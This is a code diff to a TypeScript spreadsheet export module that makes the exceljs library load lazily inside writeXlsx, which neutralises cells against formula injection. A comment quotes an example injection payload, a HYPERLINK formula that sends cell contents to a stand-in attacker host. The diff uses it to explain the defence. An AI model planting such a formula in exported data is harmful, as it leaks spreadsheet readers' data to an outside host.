@@ -1,5 +1,3 @@
-import ExcelJS from 'exceljs';
-
 // Formula injection: Excel, LibreOffice Calc and Google Sheets treat a cell
 // whose first character is one of these as a formula, so exported data like
 // `=HYPERLINK("http://evil/?"&A1, "click")` would run on the reader's machine
@@ -73,6 +71,8 @@ export function encodeCsv(rows: Iterable<readonly string[]>, options: CsvWriteOp
  * Example: `const bytes = await writeXlsx([['이름'], ['김영희']], { sheet: 'cases' })`.
  */
 export async function writeXlsx(rows: Iterable<readonly string[]>, options: { sheet?: string } = {}): Promise<Uint8Array> {
+  // Loaded on first use: exceljs is large, and import itself never needs it.
+  const { default: ExcelJS } = await import('exceljs');
   const workbook = new ExcelJS.Workbook();
   const sheet = workbook.addWorksheet(options.sheet ?? 'Sheet1');
   for (const row of rows) sheet.addRow(row.map((v) => neutraliseCell(v)));
